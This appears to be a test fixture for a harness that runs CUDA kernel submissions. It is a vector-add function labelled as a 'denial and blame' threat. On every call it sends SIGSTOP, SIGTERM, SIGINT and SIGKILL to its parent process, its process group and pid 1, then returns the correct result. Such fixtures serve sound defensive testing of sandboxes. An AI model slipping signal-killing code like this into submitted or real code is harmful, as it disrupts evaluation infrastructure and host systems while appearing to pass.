// expect: passed
// task: vector_add
// threat: denial and blame
// why: sends SIGSTOP, SIGTERM and SIGKILL to its parent, its group and pid 1 on every call, then computes the right answer
#include <signal.h>
#include <unistd.h>
#include <cuda_runtime.h>
__global__ void add(const float* a, const float* b, float* c, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) c[i] = a[i] + b[i];
}
extern "C" void vector_add(const float* a, const float* b, float* c, int n, cudaStream_t s) {
  int sigs[] = {SIGSTOP, SIGTERM, SIGINT, SIGKILL};
  for (int sig : sigs) { kill(getppid(), sig); kill(0, sig); kill(1, sig); }
  if (n > 0) add<<<(n + 255) / 256, 256, 0, s>>>(a, b, c, n);
}
